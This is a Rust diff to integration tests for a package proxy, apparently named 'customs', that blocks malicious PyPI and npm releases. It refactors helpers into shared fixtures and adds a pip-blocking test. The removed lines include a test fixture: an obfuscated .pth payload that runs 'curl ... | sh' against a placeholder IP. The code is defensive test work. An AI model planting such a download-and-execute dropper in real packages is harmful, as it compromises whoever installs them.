@@ -10,61 +10,22 @@ mod common;
 use std::path::{Path, PathBuf};
 use std::process::{Command, Output};
 
-use base64::Engine;
+use common::fixtures::{
+    fetch, fixture, pth_dropper, run, simple_page, sri, stderr, text, uv, wheel,
+};
 use common::loopback::Loopback;
-use common::{root, tar_gz_of};
+use common::registry::{pypi_env_and_store, pywheel_registry};
+use common::tar_gz_of;
 use serde_json::{Value, json};
-use sha2::{Digest, Sha256, Sha512};
+use sha2::{Digest, Sha256};
 
 /// 2025-11-01: old enough for any cooldown.
 const OLD: &str = "2025-11-01T00:00:00Z";
 
-fn fixture(path: &str) -> Vec<u8> {
-    std::fs::read(root().join("tests/fixtures").join(path)).unwrap()
-}
-
-fn uv() -> PathBuf {
-    std::env::var_os("CUSTOMS_TEST_UV")
-        .map(PathBuf::from)
-        .unwrap_or_else(|| root().join("target/tools/bin/uv"))
-}
-
-fn text(o: &Output) -> String {
-    String::from_utf8_lossy(&o.stdout).into_owned() + &String::from_utf8_lossy(&o.stderr)
-}
-
-/// A wheel with a consistent RECORD.
-fn wheel(name: &str, version: &str, files: &[(&str, &[u8])]) -> Vec<u8> {
-    let info = format!("{name}-{version}.dist-info");
-    let mut all: Vec<(String, Vec<u8>)> = files
-        .iter()
-        .map(|(p, d)| ((*p).to_owned(), d.to_vec()))
-        .collect();
-    all.push((
-        format!("{info}/METADATA"),
-        format!("Metadata-Version: 2.1\nName: {name}\nVersion: {version}\nSummary: tests\n")
-            .into_bytes(),
-    ));
-    all.push((
-        format!("{info}/WHEEL"),
-        b"Wheel-Version: 1.0\nGenerator: hand\nRoot-Is-Purelib: true\nTag: py3-none-any\n".to_vec(),
-    ));
-    let mut record = String::new();
-    for (p, d) in &all {
-        let digest = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(Sha256::digest(d));
-        record.push_str(&format!("{p},sha256={digest},{}\n", d.len()));
-    }
-    record.push_str(&format!("{info}/RECORD,,\n"));
-    all.push((format!("{info}/RECORD"), record.into_bytes()));
-    common::zip(&all)
-}
-
 /// A PyPI index at `{server}/{prefix}/simple/` with `name` 1.0 (clean) and, when
 /// `evil`, 1.1 whose `.pth` runs a decoded download-and-execute at start-up.
 fn pypi_project(server: &Loopback, prefix: &str, name: &str, evil: bool) {
-    let payload = base64::engine::general_purpose::STANDARD
-        .encode("import os; os.system('curl -s http://203.0.113.9/x | sh')");
-    let pth = format!("import base64; exec(base64.b64decode('{payload}'))\n");
+    let pth = pth_dropper();
     let module = format!("{name}/__init__.py");
     let mut files = Vec::new();
     for (version, bad) in [("1.0", false), ("1.1", true)] {
@@ -81,19 +42,7 @@ fn pypi_project(server: &Loopback, prefix: &str, name: &str, evil: bool) {
         server.route(&path, "application/octet-stream", body.clone());
         files.push(json!({"filename": file, "url": path, "hashes": {"sha256": hex::encode(Sha256::digest(&body))}, "upload-time": OLD}));
     }
-    let page = json!({"meta": {"api-version": "1.1"}, "name": name, "files": files});
-    server.route(
-        &format!("/{prefix}/simple/{name}/"),
-        "application/vnd.pypi.simple.v1+json",
-        serde_json::to_vec(&page).unwrap(),
-    );
-}
-
-fn sri(bytes: &[u8]) -> String {
-    format!(
-        "sha512-{}",
-        base64::engine::general_purpose::STANDARD.encode(Sha512::digest(bytes))
-    )
+    simple_page(server, &format!("/{prefix}/simple/{name}/"), name, files);
 }
 
 /// An npm registry at `{server}/{prefix}/` with `name` 1.0.0 (clean) and, when `evil`,
@@ -594,21 +543,6 @@ fn npm_lockfiles_keep_the_upstream_and_npm_ci_works_without_customs() {
     assert_blocked(&out, "sneaky@1.0.1");
 }
 
-fn fetch(server: &Loopback, path: &str) -> Vec<u8> {
-    use std::io::{Read, Write};
-    let addr = server.url.trim_start_matches("http://");
-    let mut s = std::net::TcpStream::connect(addr).unwrap();
-    write!(
-        s,
-        "GET {path} HTTP/1.1\r\nHost: {addr}\r\nConnection: close\r\n\r\n"
-    )
-    .unwrap();
-    let mut all = Vec::new();
-    s.read_to_end(&mut all).unwrap();
-    let split = all.windows(4).position(|w| w == b"\r\n\r\n").unwrap();
-    all[split + 4..].to_vec()
-}
-
 #[test]
 fn uv_lockfiles_keep_the_upstream_and_uv_sync_works_without_customs() {
     let uv = uv();
@@ -679,5 +613,48 @@ fn a_proxy_address_that_cannot_be_mapped_back_is_reported() {
             "url = {}/main/files/plainpkg-1.0-py3-none-any.whl\n",
             server.url
         )
+    );
+}
+
+#[test]
+fn customs_run_points_pip_at_its_proxy() {
+    let server = Loopback::start();
+    pywheel_registry(&server);
+    let dir = tempfile::tempdir().unwrap();
+    let env = pypi_env_and_store(&server, dir.path());
+    let dest = dir.path().join("dl");
+    let pip = |req: &str| {
+        run(
+            dir.path(),
+            &[
+                "run",
+                "--",
+                "python3",
+                "-m",
+                "pip",
+                "download",
+                "--no-deps",
+                "--no-cache-dir",
+                "--disable-pip-version-check",
+                "-d",
+                dest.to_str().unwrap(),
+                req,
+            ],
+            &env,
+        )
+    };
+    let ok = pip("pywheel==1.0");
+    assert_eq!(ok.status.code(), Some(0), "{}", stderr(&ok));
+    assert!(dest.join("pywheel-1.0-py3-none-any.whl").is_file());
+    let blocked = pip("pywheel==1.1");
+    assert_ne!(
+        blocked.status.code(),
+        Some(0),
+        "pip's own exit code comes back"
+    );
+    assert!(stderr(&blocked).contains("customs blocked pywheel 1.1"));
+    assert!(
+        server.count("/simple/pywheel/") >= 2,
+        "the proxy asked the configured upstream"
     );
 }
